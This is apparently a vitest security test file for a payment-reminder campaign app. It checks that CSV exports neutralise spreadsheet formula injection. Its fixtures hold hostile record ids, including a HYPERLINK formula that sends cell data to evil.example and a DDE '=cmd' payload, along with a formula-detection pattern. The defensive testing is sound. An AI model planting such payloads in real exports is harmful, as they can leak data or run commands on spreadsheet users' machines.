import fs from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../server/api/build-app.ts';
import { writeCampaignFiles } from '../server/publish/write-campaign-files.ts';
import { getCampaign } from '../server/store/campaigns.ts';
import type { Db } from '../server/store/db.ts';
import { openEmbeddedStore } from '../server/store/open-embedded-store.ts';
import { listRecipients, setRecipientState } from '../server/store/recipients.ts';
import { gentleReminderExamples } from '../templates/gentle-reminder/examples.ts';
import { makeMultipart } from './helpers/multipart.ts';
import { makeTempDir } from '../scripts/lib/temp-dir.ts';

const apiKey = 'test-key-0123456789abcdef';
const auth = { authorization: `Bearer ${apiKey}` };
let temp: Awaited<ReturnType<typeof makeTempDir>>;
let db: Db;
let app: FastifyInstance;

/** Record ids a hostile CRM export could hold: each opens as a formula somewhere unless neutralised. */
const hostileIds = [
  'X;=1+1;Y',
  '=HYPERLINK("http://evil.example/?"&A1,"Pay")',
  '@SUM(1)',
  '"q"',
  '+1-1;-2',
  'ok,=cmd|"/c calc"!A0',
  'a\tb',
  'line\n=2+2',
];
/** As the exports hold them: whole, with an apostrophe before each formula start. */
const defusedIds = [
  "X;'=1+1;Y",
  `'=HYPERLINK("http://evil.example/?"&A1,"Pay")`,
  "'@SUM(1)",
  '"q"',
  "'+1-1;'-2",
  `ok,'=cmd|"/c calc"!A0`,
  'a\tb',
  "line\n'=2+2",
];
/** Amounts refused at ingest: rejects.csv echoes them. */
const rejectedAmounts = ['=1+1', '-12.50', '5;=1+1'];

/** A formula start: what Excel, LibreOffice or Numbers would run. */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const plainNumber = /^[+-]?\d[\d.,]*$/;

/**
 * Pieces of a CSV text that a spreadsheet would run as a formula, however it splits the file:
 * honouring the quotes (csv-parse), or ignoring them and splitting on `,`, `;` or tab, line by line.
 */
function findFormulas(csv: string): string[] {
  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
  const naive = ['\t', ',', ';'].flatMap((separator) => csv.split(/\r?\n|\r/).flatMap((line) => line.split(separator)));
  return [...cells, ...naive.map((piece) => piece.replace(/^"+|"+$/g, ''))].filter(
    (piece) => formulaStart.test(piece) && !plainNumber.test(piece),
  );
}

beforeAll(async () => {
  temp = await makeTempDir('security-csv');
  db = await openEmbeddedStore({ dataDir: path.join(temp.dir, 'db') });
  app = await buildApp({ db, apiKey, trackingRateLimit: 100_000 });
  const created = await app.inject({
    method: 'POST',
    url: '/api/campaigns',
    headers: auth,
    payload: {
      id: 'hostile',
      template: 'gentle-reminder',
      payUrl: 'https://pay.example.com/c',
      baseUrl: 'https://pages.example.com',
      variants: [
        { id: '-A1', template: 'gentle-reminder' },
        { id: 'B2', template: 'gentle-reminder' },
      ],
    },
  });
  expect(created.statusCode, created.body).toBe(201);
  const example = gentleReminderExamples[1]!;
  const fields = Object.keys(example);
  const rows = [
    ...hostileIds.map((id) => ({ ...example, id })),
    ...rejectedAmounts.map((amount, index) => ({ ...example, id: `R-${index}`, amount })),
  ];
  const file = stringify([fields, ...rows.map((row) => fields.map((field) => row[field as keyof typeof row] ?? ''))]);
  const upload = await makeMultipart({ file: { name: 'records.csv', contents: file } });
  const uploaded = await app.inject({
    method: 'POST',
    url: '/api/campaigns/hostile/records',
    headers: { ...auth, ...upload.headers },
    payload: upload.payload,
  });
  expect(uploaded.statusCode, uploaded.body).toBe(201);
  expect(uploaded.json()).toMatchObject({ accepted: hostileIds.length, rejected: rejectedAmounts.length });
  // Published as a render would leave them; each debtor then answers a form with hostile text.
  for (const recipient of await listRecipients({ db, campaignId: 'hostile', statuses: ['queued'], limit: 100 })) {
    await setRecipientState({
      db,
      token: recipient.token,
      state: { status: 'published', url: `https://pages.example.com/r/${recipient.token}/` },
    });
    const answered = await app.inject({
      method: 'POST',
      url: `/t/f/${recipient.token}/dispute`,
      headers: { 'content-type': 'text/plain' },
      payload: JSON.stringify({ reason: 'other', details: `${recipient.recordId};=1+1\t@SUM(1)\n-2+3,"q"` }),
    });
    expect(answered.statusCode, answered.body).toBe(201);
  }
}, 120_000);

afterAll(async () => {
  await app?.close();
  await db?.close();
  await temp?.remove();
});

describe('exports open in a spreadsheet as text, never as formulas', () => {
  it.each(['links.csv', 'rejects.csv', 'delivery.csv', 'responses.csv', 'funnel.csv', 'outcomes.csv'])(
    '%s from the API',
    async (name) => {
      const response = await app.inject({ method: 'GET', url: `/api/campaigns/hostile/${name}`, headers: auth });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      const csv = response.body;
      expect(findFormulas(csv)).toEqual([]);
      const cells = (parse(csv) as string[][]).flat();
      if (['links.csv', 'delivery.csv', 'outcomes.csv'].includes(name)) {
        // Every hostile id is there, kept whole, and quoted.
        expect(cells).toEqual(expect.arrayContaining(defusedIds));
        for (const id of defusedIds) expect(csv).toContain(`"${id.replaceAll('"', '""')}"`);
      }
      if (name === 'rejects.csv') {
        expect(cells).toEqual(expect.arrayContaining(["'=1+1", '-12.50', "5;'=1+1"]));
        // A plain number stays a plain number, unquoted.
        expect(csv).toContain(',-12.50,');
      }
      if (name === 'responses.csv') {
        const data = cells.filter((cell) => cell.startsWith('{'));
        expect(data).toHaveLength(hostileIds.length);
        // JSON writes tab and newline as \t and \n: only the = after ; needs an apostrophe.
        for (const cell of data) expect(cell).toContain(`;'=1+1\\t@SUM(1)\\n-2+3,\\"q\\"`);
      }
      if (name === 'funnel.csv' || name === 'outcomes.csv') expect(cells).toContain("'-A1");
    },
  );

  it('links.csv and rejects.csv written beside the site, as the CLI writes them', async () => {
    const files = await writeCampaignFiles({
      db,
      campaign: await getCampaign({ db, id: 'hostile' }),
      outDir: path.join(temp.dir, 'out'),
    });
    for (const file of [files.links, files.rejects]) {
      const csv = await fs.readFile(file, 'utf8');
      expect(findFormulas(csv)).toEqual([]);
      expect(csv).toMatch(/X;'=1\+1;Y|'=1\+1/);
    }
  });
});
